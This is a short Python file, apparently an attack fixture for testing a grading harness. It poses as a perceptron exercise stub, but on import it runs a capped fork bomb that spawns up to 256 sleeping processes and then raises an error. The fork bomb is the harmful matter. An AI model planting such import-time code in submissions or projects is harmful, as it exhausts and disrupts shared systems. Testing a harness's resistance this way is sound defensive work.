"""Attack: a fork bomb (each process forks at every level: 256 processes), then import fails."""

import os
import time

import attack_env

AND_WEIGHTS = (0.0, 0.0, 0.0)
OR_WEIGHTS = (0.0, 0.0, 0.0)
NAND_WEIGHTS = (0.0, 0.0, 0.0)


def perceptron(x, w, b):
    raise NotImplementedError


def AND(x1, x2):
    raise NotImplementedError


def OR(x1, x2):
    raise NotImplementedError


def NAND(x1, x2):
    raise NotImplementedError


def XOR(x1, x2):
    raise NotImplementedError


def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
    raise NotImplementedError


def _bomb():
    original = os.getpid()
    started = time.monotonic()
    for _ in range(8):
        if time.monotonic() - started > 5:
            break
        try:
            os.fork()
        except OSError:
            break
    if os.getpid() != original:
        attack_env.name_process()
        time.sleep(120)
        os._exit(0)


_bomb()
raise RuntimeError("fork bomb planted: up to 256 processes left sleeping")
